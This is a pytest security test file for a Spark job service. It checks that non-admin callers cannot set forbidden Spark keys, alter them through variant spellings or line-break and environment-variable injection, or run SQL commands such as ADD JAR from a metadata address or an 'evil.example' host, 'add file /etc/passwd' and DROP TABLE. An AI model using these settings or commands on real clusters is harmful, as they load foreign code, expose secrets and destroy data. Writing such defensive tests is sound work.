"""Spark settings and commands of callers who are not admin, through every door: S7, S8, S9, S12, S18."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
import yaml
from tests.attacks.attacked_node import AttackedNode, Caller, People
from tests.attacks.graphs import BATCH, changed

from firesteel.config import load_configuration
from firesteel.engines.command import properties
from firesteel.jobgraph.model import JobGraph
from firesteel.jobmaster.plan import RunPlan
from firesteel.rest.security.queries import UNCLOSED, first_word
from firesteel.spark_connect.settings import session_settings

pytestmark = pytest.mark.xdist_group("attacks")

FORBIDDEN = (
    "spark.driver.extraClassPath",
    "spark.executor.extraClassPath",
    "spark.driver.userClassPathFirst",
    "spark.submit.proxyUser.allowCustomClasspathInClusterMode",
    "spark.driver.extraJavaOptions",
    "spark.driver.defaultJavaOptions",
    "spark.executor.defaultJavaOptions",
    "spark.jars",
    "spark.jars.packages",
    "spark.jars.ivySettings",
    "spark.files",
    "spark.archives",
    "spark.submit.pyFiles",
    "spark.yarn.dist.archives",
    "spark.kubernetes.driver.podTemplateFile",
    "spark.pyspark.python",
    "spark.sql.execution.pyspark.python",
    "spark.executorEnv.LD_PRELOAD",
    "spark.plugins",
    "spark.extraListeners",
    "spark.sql.extensions",
    "spark.sql.catalog.evil",
    "spark.sql.streaming.streamingQueryListeners",
    "spark.sql.adaptive.customCostEvaluatorClass",
    "spark.sql.warehouse.dir",
    "spark.local.dir",
    "spark.eventLog.dir",
    "spark.hadoop.fs.s3a.endpoint",
    "spark.hadoop.hadoop.security.credential.provider.path",
    "spark.master",
    "spark.submit.deployMode",
    "spark.connect.grpc.binding.address",
    "spark.connect.grpc.interceptor.classes",
    "spark.authenticate",
    "spark.authenticate.secret",
    "spark.ui.filters",
    "spark.acls.enable",
    "spark.redaction.regex",
    "spark.kerberos.keytab",
    "spark.sql.variable.substitute",
)
ALIASES = (
    "jars",
    "driver.extraClassPath",
    "SPARK.JARS",
    "spark.Jars",
    " spark.jars",
    "spark.jars ",
    "spark.jars\t",
    "spark..jars",
    ".spark.jars",
    "spark.j\u0430rs",
    "spark.sql.shuffle.partitions\n",
    "spark.sql.shuffle.partitions=1\nspark.jars",
    "--jars",
    "spark/jars",
    "",
)


def refused(caller: Caller, graph: dict[str, Any], said: str = "") -> None:
    """As JSON, as YAML, and as a pipeline that was uploaded to be run later."""
    for answer in (
        caller.post("/jobs", {"graph": graph}),
        caller.post("/jobs", yaml.safe_dump(graph).encode(), {"content-type": "application/yaml"}),
        caller.post(f"/jars/{caller.upload_program('p.json', json.dumps(graph).encode())}/run", {}),
    ):
        assert answer.status == 400, (graph, answer)
        assert said in " ".join(answer.errors)


@pytest.mark.parametrize("key", FORBIDDEN)
def test_a_setting_that_is_not_listed_passes_no_door(people: People, key: str) -> None:
    """S7, S8: CVE-2026-62391, CVE-2025-60012, CVE-2023-22946"""
    refused(people.alice, changed(BATCH, "settings", "spark", to={key: "1"}), key)
    program = people.alice.upload_program("p.py", b"print(1)\n")
    for path in (f"/jars/{program}/run", f"/jars/{program}/run-application"):
        answer = people.alice.post(path, {"flinkConfiguration": {key: "1"}})
        assert answer.status == 400
        assert key in answer.errors[0]
    variables = changed(BATCH, "settings", "spark", to={key: "${x}"})
    assert people.alice.post("/jobs", {"graph": variables, "variables": {"x": "1"}}).status == 400


@pytest.mark.parametrize("key", ALIASES)
def test_another_spelling_passes_no_door(people: People, key: str) -> None:
    """S7"""
    refused(people.alice, changed(BATCH, "settings", "spark", to={key: "1"}))
    program = people.alice.upload_program("p.py", b"print(1)\n")
    assert people.alice.post(f"/jars/{program}/run", {"flinkConfiguration": {key: "1"}}).status == 400


def test_a_harmless_setting_passes_and_its_value_brings_no_other(people: People) -> None:
    """S7: a line break in a value would be another setting in a file of settings."""
    name = "spark.sql.shuffle.partitions"
    assert people.alice.post("/jobs", {"graph": changed(BATCH, "settings", "spark", to={name: "3"})}).status == 202
    for value in ("3\nspark.jars=/x.jar", "3\rspark.jars /x.jar", "${env:AWS_SECRET_ACCESS_KEY}", "3\u2028x", "3\\\nx"):
        refused(people.alice, changed(BATCH, "settings", "spark", to={name: value}))
    assert properties({name: "3\nspark.jars=/x"}).count("\n") == 1


@pytest.mark.parametrize("kind", ["source", "sink"])
def test_options_of_a_vertex_are_no_settings(kind: str, tmp_path: Path) -> None:
    """S7: they reach Spark's reader or writer, and neither an engine nor a session."""
    graph = JobGraph.model_validate(
        {
            "name": "x",
            "vertices": [
                {
                    "kind": "source",
                    "name": "a",
                    "format": "csv",
                    "path": "/a",
                    "options": dict.fromkeys(FORBIDDEN, "evil"),
                },
                {"kind": "sink", "name": "o", "input": "a", "format": "csv", "path": "/o"},
            ],
        }
    )
    if kind == "sink":
        whole = graph.model_dump(mode="json", by_alias=True)
        whole["vertices"][1]["options"], whole["vertices"][0]["options"] = whole["vertices"][0]["options"], {}
        graph = JobGraph.model_validate(whole)
    configuration = load_configuration(environ={"HOME": str(tmp_path)}, overrides={"data.dir": str(tmp_path)})
    assert "evil" not in str(RunPlan.of(graph, configuration).engine)
    assert "evil" not in str(session_settings(graph, cores=1, default_parallelism=None, spark={}))


COMMANDS = (
    "ADD JAR 'http://169.254.169.254/latest/x.jar'",
    "add file '/etc/passwd'",
    "SET spark.sql.warehouse.dir=/x",
    "-- \\\nSELECT\nADD JAR '/x.jar'",
    "/* /* */ SELECT */ ADD JAR '/x.jar'",
    "/* /* */ ADD JAR '/x.jar'",
    "(ADD JAR '/x.jar')",
    "\ufeffRESET",
    "EXECUTE IMMEDIATE 'SET spark.sql.shuffle.partitions=7'",
    "BEGIN SET x = 1; SELECT 1; END",
    "LOAD DATA INPATH '/etc' INTO TABLE t",
    "CREATE TEMPORARY FUNCTION f AS 'evil' USING JAR 'http://evil.example/x.jar'",
    "SELECT 1; ADD JAR '/x.jar'",
    "DROP TABLE t",
    "CALL system.evil()",
    "USE other",
)


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command_is_no_query(people: People, command: str) -> None:
    """S7, S9, S18: Spark runs a command wherever it expects a query."""
    vertices = [{"kind": "sql", "name": "q", "query": command}, BATCH["vertices"][2]]
    refused(people.alice, {"name": "x", "vertices": vertices}, "vertex 'q', field 'query'")


@pytest.mark.parametrize(
    "query",
    [
        "SELECT * FROM a",
        "(SELECT * FROM a)",
        "-- why\nWITH x AS (SELECT * FROM a) SELECT * FROM x",
        "/* a /* nested */ comment */ FROM a SELECT *",
        "TABLE a",
        "SELECT 'ADD JAR', `SET` FROM a",
    ],
)
def test_a_query_is_one(people: People, query: str) -> None:
    assert people.alice.post("/jobs", {"graph": changed(BATCH, "vertices", 1, "query", to=query)}).status == 202


def test_the_first_word_is_found_as_spark_finds_it() -> None:
    assert first_word("-- SELECT \\\n SELECT\r\n/*+ x */") == "x"
    assert first_word("/* SELECT") == first_word("--\n/* /* */ SELECT") == UNCLOSED
    assert first_word("\u00a0\u3000(\n SELECT") == "select"
    assert first_word(" -- only a comment") == ""


def test_admins_may_set_what_they_like_and_are_written_down(node: AttackedNode, people: People) -> None:
    """The control run of all of the above: it is the role that refuses, not an accident."""
    answer = people.root.post("/jobs", {"graph": changed(BATCH, "settings", "spark", to={"spark.jars.ivy": "/x"})})
    assert answer.status == 202
    record = node.audited(answer.headers["x-request-id"])
    assert (record["principal"], record["outcome"]) == ("root", "done")
